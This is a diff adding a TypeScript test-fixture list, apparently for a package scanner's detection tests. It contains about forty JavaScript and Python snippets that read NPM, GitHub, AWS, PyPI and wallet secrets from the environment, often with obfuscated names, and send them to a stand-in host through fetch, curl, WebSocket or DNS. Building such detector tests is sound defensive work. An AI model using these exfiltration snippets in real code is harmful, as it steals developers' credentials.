@@ -1,0 +1,47 @@
+import type { Evasion } from './evasion.js';
+
+const TO = 'https://c.example.invalid/x';
+const post = (what: string): string => `fetch("${TO}", { method: "POST", body: JSON.stringify(${what}) })`;
+
+/** Keys that are read one by one, by their names. */
+export const SECRETS: readonly Evasion[] = [
+  ['two keys', post('[process.env.NPM_TOKEN, process.env.GITHUB_TOKEN]'), 'data-leak critical'],
+  ['one key to a stranger', post('process.env.NPM_TOKEN'), 'data-leak high'],
+  ['names in parts', post('{ a: process.env["NPM" + "_TOKEN"], b: process.env["AWS_SECRET" + "_ACCESS_KEY"] }'), 'data-leak critical'],
+  ['names in base64', post('process.env[atob("TlBNX1RPS0VO")]'), 'data-leak high'],
+  ['names in a list', `const n = ["NPM_TOKEN", "GH_TOKEN"]; ${post('n.map((k) => process.env[k])')}`, 'data-leak critical'],
+  ['names in a list, loop', `const o = {}; for (const k of ["NPM_TOKEN", "GH_TOKEN"]) o[k] = process.env[k]; ${post('o')}`, 'data-leak critical'],
+  ['names in a list, reduced', post('["NPM_TOKEN", "GH_TOKEN"].reduce((o, k) => ({ ...o, [k]: process.env[k] }), {})'), 'data-leak critical'],
+  ['names by a function', `const e = (k) => process.env[k]; ${post('{ a: e("NPM_TOKEN"), b: e("GH_TOKEN") }')}`, 'data-leak high'],
+  ['destructured', `const { NPM_TOKEN: a, VAULT_TOKEN: b } = process.env; ${post('{ a, b }')}`, 'data-leak critical'],
+  ['destructured, computed', `const k = "NPM_TOKEN"; const { [k]: a, GH_TOKEN: b } = process.env; ${post('a + b')}`, 'data-leak critical'],
+  ['alias of the environment', `const e = process["env"]; ${post('{ a: e.NPM_TOKEN, b: e.GH_TOKEN }')}`, 'data-leak critical'],
+  ['environment of a module', `import { env } from "node:process"; ${post('`${env.NPM_TOKEN}:${env.GH_TOKEN}`')}`, 'data-leak critical'],
+  ['added to a text', `let s = ""; s += process.env.NPM_TOKEN; s += process.env.GH_TOKEN; ${post('s')}`, 'data-leak critical'],
+  ['put into a list', `const l = []; l.push(process.env.NPM_TOKEN); l.push(process.env.GH_TOKEN); ${post('l')}`, 'data-leak critical'],
+  ['put into members', `const o = {}; o.a = process.env.NPM_TOKEN; o.b = process.env.GH_TOKEN; ${post('o')}`, 'data-leak critical'],
+  ['with something else if missing', post('{ a: process.env.NPM_TOKEN || "", b: process.env.GH_TOKEN ?? null }'), 'data-leak critical'],
+  ['in headers', `fetch("${TO}", { headers: { a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN } })`, 'data-leak critical'],
+  ['in the address', `require("https").get("${TO}?" + process.env.NPM_TOKEN + process.env.GH_TOKEN)`, 'data-leak critical'],
+  ['encoded', `require("https").request({ host: "c.example.invalid" }).end(Buffer.from(process.env.NPM_TOKEN + "|" + process.env.GH_TOKEN).toString("base64"))`, 'data-leak critical'],
+  ['one key, host by options', 'const r = require("https").request({ hostname: "c.example.invalid", method: "POST" }); r.write(process.env.NPM_TOKEN); r.end()', 'data-leak high'],
+  ['one key, host that looks like its own', 'fetch("https://registry.npmjs.org.example.invalid/x", { headers: { authorization: process.env.NPM_TOKEN } })', 'data-leak high'],
+  ['two keys to one of their owners', 'fetch("https://api.github.com/gists", { method: "POST", headers: { authorization: process.env.GITHUB_TOKEN }, body: process.env.NPM_TOKEN })', 'data-leak high'],
+  ['two keys, host unknown', 'fetch(u, { body: process.env.NPM_TOKEN + process.env.GH_TOKEN })', 'data-leak high'],
+  ['by a function that sends', `const send = (d) => fetch("${TO}", { body: d }); send(JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN }))`, 'data-leak critical'],
+  ['field of this', `class A { a = process.env.NPM_TOKEN; b = process.env.GH_TOKEN; send() { ${post('[this.a, this.b]')} } } new A().send()`, 'data-leak critical'],
+  ['lower case names for npm', post('process.env.npm_config__authToken'), 'data-leak high'],
+  ['with a prefix', post('process.env.PROD_AWS_SECRET_ACCESS_KEY'), 'data-leak high'],
+  ['key of a wallet', post('process.env.WALLET_PRIVATE_KEY'), 'data-leak high'],
+  ['by curl', `require("child_process").exec("curl -d " + process.env.NPM_TOKEN + " ${TO}")`, 'data-leak high'],
+  ['by curl and its shell', `require("child_process").execSync('curl -d "$NPM_TOKEN" ${TO}')`, 'data-leak high'],
+  ['by a socket', 'const s = new WebSocket("wss://c.example.invalid"); s.onopen = () => s.send(process.env.NPM_TOKEN + process.env.GH_TOKEN)', 'data-leak critical'],
+  ['by DNS', 'require("dns").resolve(process.env.NPM_TOKEN + ".c.example.invalid", () => {})', 'dns-leak high'],
+  ['by another script', { 'index.js': 'require("./b.js").send({ a: process.env.NPM_TOKEN, b: process.env.GH_TOKEN })', 'b.js': `exports.send = (x) => ${post('x')}` }, 'data-leak high'],
+  ['from another script', { 'index.js': `const s = require("./b.js"); ${post('s')}`, 'b.js': 'const { env } = process; module.exports = { a: env.NPM_TOKEN, b: env.GH_TOKEN }' }, 'data-leak high'],
+  ['Python', { 'main.py': `import os, requests\nrequests.post("${TO}", json=[os.environ["NPM_TOKEN"], os.environ["GH_TOKEN"]])` }, 'data-leak critical'],
+  ['Python, one key', { 'main.py': `import os, requests\nrequests.post("${TO}", json={"a": os.getenv("PYPI_TOKEN")})` }, 'data-leak high'],
+  ['Python, names in parts', { 'main.py': `from os import environ as e\nimport requests\nrequests.post("${TO}", data=e.get("NPM" + "_TOKEN") + e.get("GH_" "TOKEN"))` }, 'data-leak critical'],
+  ['Python, list of names', { 'main.py': `import os, requests\nrequests.post("${TO}", json=[os.getenv(n) for n in ["NPM_TOKEN", "GH_TOKEN"]])` }, 'data-leak critical'],
+  ['Python, function', { 'main.py': `import os, requests\ndef found():\n    return {"a": os.environ["NPM_TOKEN"], "b": os.environ["GH_TOKEN"]}\nrequests.post("${TO}", json=found())` }, 'data-leak critical'],
+];
